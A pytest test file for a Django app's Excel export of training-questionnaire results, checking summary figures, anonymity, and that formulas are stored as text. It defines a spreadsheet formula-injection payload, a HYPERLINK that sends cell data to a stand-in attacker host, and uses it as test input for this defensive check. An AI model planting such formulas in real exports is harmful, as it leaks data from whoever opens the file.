"""The results workbook: figures, one row per response, and no formula ever run."""

import io

import pytest
from openpyxl import load_workbook

from courses.models import QuestionKind
from courses.questionnaire_exports import questionnaire_results_xlsx
from courses.selectors.questionnaires import questionnaire_response_rows, questionnaire_summary
from courses.services.questionnaires import response_submit
from tests.courses.test_questionnaire_support import (
    full_answers,
    make_questionnaire,
    make_trainees,
    make_training,
)

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def workbook_for(questionnaire):
    questions, rows = questionnaire_response_rows(questionnaire)
    data = questionnaire_results_xlsx(
        questionnaire=questionnaire,
        summary=questionnaire_summary(questionnaire),
        questions=questions,
        rows=rows,
    )
    return load_workbook(io.BytesIO(data))


def cells(sheet):
    return [[cell for cell in row] for row in sheet.iter_rows()]


def values(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_summary_sheet_has_the_figures():
    trainees = make_trainees(3)
    questionnaire = make_questionnaire(make_training(trainees=trainees))
    for trainee in trainees[:2]:
        response_submit(
            questionnaire=questionnaire, employee=trainee, answers=full_answers(questionnaire)
        )
    book = workbook_for(questionnaire)
    assert book.sheetnames == ["Summary", "Responses"]
    rows = values(book["Summary"])
    assert rows[0][:2] == ["Questionnaire", "Training effectiveness survey"]
    assert rows[1][:2] == ["Training", "Safety production knowledge training"]
    assert rows[3][:2] == ["Issued", 3]
    assert rows[4][:2] == ["Returned", 2]
    assert rows[5][:2] == ["Feedback rate (%)", 66.7]
    first_question = next(r for r in rows if r[1] == "The content was useful for my work")
    assert first_question[4] == 2 and first_question[6] == 4.0
    assert [r[3] for r in rows if r[3] == "More practice, please."] == [
        "More practice, please."
    ] * 2


def test_responses_sheet_names_respondents_only_when_not_anonymous():
    trainees = make_trainees(1, name="彭建军")
    named = make_questionnaire(make_training(trainees=trainees))
    anonymous = make_questionnaire(named.training, anonymous=True)
    for questionnaire in (named, anonymous):
        response_submit(
            questionnaire=questionnaire, employee=trainees[0], answers=full_answers(questionnaire)
        )
    named_rows = values(workbook_for(named)["Responses"])
    assert named_rows[0][:5] == ["No.", "Employee number", "Name", "Department", "Submitted at"]
    assert named_rows[1][2] == "彭建军"
    assert named_rows[1][5:] == [
        4,
        4,
        "Too short",
        "Laws and regulations; Accident case analysis",
        "More practice, please.",
    ]
    anonymous_book = workbook_for(anonymous)
    anonymous_rows = values(anonymous_book["Responses"])
    assert anonymous_rows[0][:2] == ["No.", "The content was useful for my work"]
    assert anonymous_rows[1][0] == 1
    for sheet in anonymous_book.worksheets:
        assert "彭建军" not in repr(values(sheet))
        assert trainees[0].employee_no not in repr(values(sheet))


def test_formula_in_a_free_text_answer_comes_out_as_text():
    trainees = make_trainees(1)
    questionnaire = make_questionnaire(make_training(trainees=trainees))
    text = questionnaire.questions.get(kind=QuestionKind.TEXT)
    text.text = "=1+1"  # a question text typed as a formula, too
    text.save(update_fields=["text"])
    response_submit(
        questionnaire=questionnaire,
        employee=trainees[0],
        answers=full_answers(questionnaire, text=INJECTION),
    )
    book = workbook_for(questionnaire)
    found = []
    for sheet in book.worksheets:
        for row in cells(sheet):
            for cell in row:
                if cell.value in (INJECTION, "=1+1"):
                    found.append(cell)
    # The opinion on both sheets, the question text in the summary and as a column header.
    assert len(found) == 4
    for cell in found:
        assert cell.data_type == "s"  # text, never a formula
        assert cell.quotePrefix
